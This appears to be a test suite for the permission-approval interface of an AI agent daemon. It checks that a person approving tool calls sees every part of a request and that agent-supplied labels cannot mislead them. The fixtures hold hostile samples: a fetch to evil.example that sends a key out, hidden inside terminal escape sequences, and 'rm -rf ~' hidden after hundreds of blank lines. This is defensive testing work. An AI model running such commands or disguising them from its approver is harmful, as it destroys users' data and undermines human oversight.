// Answers that a person gives: they count for what the person saw, and the person could see all of it.

import assert from 'node:assert/strict';
import { join } from 'node:path';
import { until } from '../browser.mjs';
import { permission, update } from '../daemon.mjs';
import { answer, eventually, suite } from '../suite.mjs';

const s = suite();

const wire = (message) => `wire ${JSON.stringify({ jsonrpc: '2.0', ...message }).replaceAll(';', '\\u003b')}`;
const asks = (toolCall, id, options) => permission(toolCall, options, id).replace(/; heard$/, '');
const resolved = async (id) => (await s.daemon.kennel('events', '--json', id)).match(/"permission\.resolved"/g)?.length ?? 0;
const remove = (one) => s.daemon.api('DELETE', `/v1/sessions/${one.id}?force=true`);

/** A session whose agent asks for one thing, and for another once its process is told so. */
async function two(title) {
  const one = await s.daemon.session({ title });
  const first = asks({ toolCallId: 'a', title: 'Read docs', kind: 'read', rawInput: { command: 'cat docs' } }, 71);
  const second = asks({ toolCallId: 'b', title: 'Remove all', kind: 'execute', rawInput: { command: 'rm -rf ~' } }, 72);
  await s.daemon.prompt(one.id, `${first}; sleep 6s; ${second}; sleep 60s`);
  return one;
}

const still = (opened, count) =>
  until(
    opened,
    (wanted) => {
      const all = [...document.querySelectorAll('.answers .allow')];
      return all.length === wanted && all.every((one) => !one.disabled && one.getAttribute('aria-disabled') === null);
    },
    count,
  );

for (const way of ['finger', 'key']) {
  s.both(`a permission that arrives takes no answer that was meant for another, by ${way}`, async (size) => {
    const one = await two(`Asks twice, ${way}`);
    const opened = await s.open({ size });
    await s.go(opened, `#/s/${one.id}`);
    await still(opened, 1);
    // What a person does who was about to press: at the old place, soon after the other card came.
    const pressed = await opened.evaluate(
      (by) =>
        new Promise((done) => {
          const allow = document.querySelector('.answers .allow');
          const box = allow.getBoundingClientRect();
          allow.focus();
          const look = () => {
            const all = [...document.querySelectorAll('.answers .allow')].filter((button) => !button.disabled);
            if (all.length < 2) {
              requestAnimationFrame(look);
              return;
            }
            const at = document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2);
            const press = by === 'key' ? [document.activeElement] : [at, ...all];
            for (const button of press) button.click();
            done(press.length);
          };
          look();
        }),
      way,
    );
    assert.ok(pressed > 0);
    await still(opened, 2);
    assert.equal(await resolved(one.id), 0);
    // Once the cards lie still, an answer counts.
    const card = opened.getByRole('article', { name: 'Permission' }).filter({ hasText: 'Read docs' });
    await card.getByRole('button', { name: 'Deny', exact: true }).click();
    await eventually(
      () => resolved(one.id),
      (count) => count === 1,
      'the answer counts',
    );
    await remove(one);
  });
}

s.both('a permission shows all its parts, and no sequence of a terminal hides any of a change', async (size) => {
  const one = await s.daemon.session({ title: 'Hides things' });
  const content = Array.from({ length: 70 }, (_, at) => ({ type: 'content', content: { type: 'text', text: `part ${at}.` } }));
  const evil = "/*\u001b]*/fetch('http://evil.example/'+key)/*\u0007*/ok()";
  content.unshift({ type: 'diff', path: 'a.js', oldText: '', newText: evil });
  content.unshift({ type: 'content', content: { type: 'text', text: evil } });
  await s.daemon.prompt(one.id, permission({ toolCallId: 'p', title: 'Edit', kind: 'edit', content }));
  const opened = await s.open({ size });
  await s.go(opened, `#/s/${one.id}`);
  const card = opened.getByRole('article', { name: 'Permission' });
  await card.locator('.diff-row.is-added').waitFor();
  assert.match(await card.locator('.diff-row.is-added code').textContent(), /\\u\{1b\}\]\*\/fetch\('http/);
  assert.match(await card.locator('.long pre').first().textContent(), /\\u\{1b\}\]\*\/fetch\('http/);
  await card.getByRole('button', { name: /Show more parts/ }).click();
  await card.getByRole('button', { name: /Show more parts/ }).click();
  await card.getByText('part 69.').waitFor();
  assert.equal(await card.getByRole('button', { name: /Show more parts/ }).count(), 0);
  await remove(one);
});

s.both('the word for an option is never the word of the agent', async (size) => {
  const one = await s.daemon.session({ title: 'Lies about its options' });
  const options = [
    { optionId: 'a', name: 'Deny', kind: 'allow_once' },
    { optionId: 'b', name: 'Deny for this session', kind: 'allow_once' },
    { optionId: 'c', name: 'No', kind: 'reject_once' },
  ];
  await s.daemon.prompt(one.id, permission({ toolCallId: 'p', title: 'Run', rawInput: { command: 'ls' } }, options));
  const opened = await s.open({ size });
  await s.go(opened, `#/s/${one.id}`);
  const card = opened.getByRole('article', { name: 'Permission' });
  await card.getByRole('button', { name: 'Allow once: Deny for this session', exact: true }).waitFor();
  const names = await card.locator('.others button, .answers button').allTextContents();
  assert.deepEqual(names, ['Allow once: Deny', 'Allow once: Deny for this session', 'Deny']);
  await card.getByRole('button', { name: 'Allow once: Deny', exact: true }).click();
  await opened.locator('.item.is-permission', { hasText: 'answered: Allow once: Deny' }).waitFor();
  await remove(one);
});

s.both('a command says how long it is, and that its end is out of sight', async (size) => {
  const one = await s.daemon.session({ title: 'Runs a long command' });
  const command = `echo a\n${'\n'.repeat(300)}rm -rf ~`;
  await s.daemon.prompt(one.id, permission({ toolCallId: 'p', title: 'Run', kind: 'execute', rawInput: { command } }));
  const opened = await s.open({ size });
  await s.go(opened, `#/s/${one.id}`);
  const head = opened.getByRole('article', { name: 'Permission' }).locator('.command-head');
  await head.getByText('302 lines').waitFor();
  await head.getByText('its end is out of sight').waitFor();
  await opened.evaluate(() => {
    document.querySelector('.command pre').scrollTop = 1e6;
    document.querySelector('.needs').scrollTop = 1e6;
  });
  await head.getByText('its end is out of sight').waitFor({ state: 'hidden' });
  await remove(one);
});

s.both('a form with more fields than the page shows is not sent', async (size) => {
  const one = await s.daemon.session({ title: 'Asks much' });
  const properties = Object.fromEntries(Array.from({ length: 70 }, (_, at) => [`f${at}`, { type: 'boolean' }]));
  const params = {
    sessionId: '$S',
    mode: 'form',
    message: `${'much '.repeat(1_000)}end`,
    requestedSchema: { type: 'object', properties },
  };
  await s.daemon.prompt(one.id, `${wire({ id: 72, method: 'elicitation/create', params })}; heard`);
  const opened = await s.open({ size });
  await s.go(opened, `#/s/${one.id}`);
  const form = opened.getByRole('article', { name: 'Question' });
  await form.getByText('6 more fields are not shown').waitFor();
  assert.equal(await form.getByRole('button', { name: 'Answer' }).isDisabled(), true);
  await opened.evaluate(() => document.querySelector('.card form').requestSubmit());
  await form.getByRole('button', { name: /Show more of this question/ }).click();
  await answer(form, 'Decline');
  const { text } = await eventually(
    () => s.daemon.api('GET', `/v1/sessions/${one.id}/result`),
    (now) => now.outcome,
    'the turn ends',
  );
  assert.doesNotMatch(text, /accept/);
});

s.both('an interrupted prompt is read whole before it runs again', async (size) => {
  const one = await s.daemon.session({ title: 'Was cut off' });
  const mark = join(s.daemon.dir, `mark-answers-${size.width}`);
  const words = 'word '.repeat(80);
  await s.daemon.prompt(one.id, `mark ${mark}; think ${words} and remove all; exit 3`);
  await s.daemon.wait(one.id, 'idle');
  const opened = await s.open({ size });
  await s.go(opened, `#/s/${one.id}`);
  const card = opened.getByRole('article', { name: 'Interrupted prompt' });
  await card.getByText(/and remove all; exit 3/).waitFor();
  await card.getByRole('button', { name: 'Drop' }).click();
  await card.waitFor({ state: 'detached' });
  await remove(one);
});

s.both('an address with other text than a ticket tries no log-in', async (size) => {
  const opened = await s.open({ size });
  const tried = [];
  opened.on('request', (request) => {
    if (request.url().includes('/v1/web/login')) tried.push(request.url());
  });
  for (const junk of ['junk', 'x'.repeat(22), `${'x'.repeat(22)}A`, '../..']) {
    await s.go(opened, `#${junk}`);
    await until(opened, () => location.hash === '#/');
  }
  // What follows the last text is heard after it.
  await s.go(opened, '#/settings');
  await opened.getByRole('button', { name: 'Log out' }).waitFor();
  assert.deepEqual(tried, []);
  await s.go(opened, `#${'x'.repeat(21)}A`);
  await eventually(
    async () => tried.length,
    (count) => count === 1,
    'a text of the form of a ticket is tried',
  );
});

s.both('one refusal does not end a log-in', async (size) => {
  const opened = await s.open({ size });
  let refused = 0;
  await opened.route('**/v1/web/me', async (route) => {
    refused += 1;
    if (refused === 1) await route.fulfill({ status: 401, json: { code: 'unauthorized', detail: 'Not now.' } });
    else await route.continue();
  });
  await opened.reload();
  await opened.getByRole('region', { name: 'Sessions' }).waitFor();
  assert.ok(refused >= 2, `${refused}`);
});

// The conversation has the parts of a call that it keeps, and counts the others.
s.both('a call with many parts says how many are not kept', async (size) => {
  const one = await s.daemon.session({ title: 'Tells much' });
  const content = Array.from({ length: 70 }, (_, at) => ({ type: 'content', content: { type: 'text', text: `part ${at}.` } }));
  await s.daemon.turn(one.id, update({ sessionUpdate: 'tool_call', toolCallId: 't', title: 'many', content }));
  const opened = await s.open({ size });
  await s.go(opened, `#/s/${one.id}`);
  await opened.getByRole('button', { name: /many/ }).click();
  await opened.getByRole('button', { name: /Show more parts/ }).click();
  await opened.getByText('20 more parts are not kept.').waitFor();
});
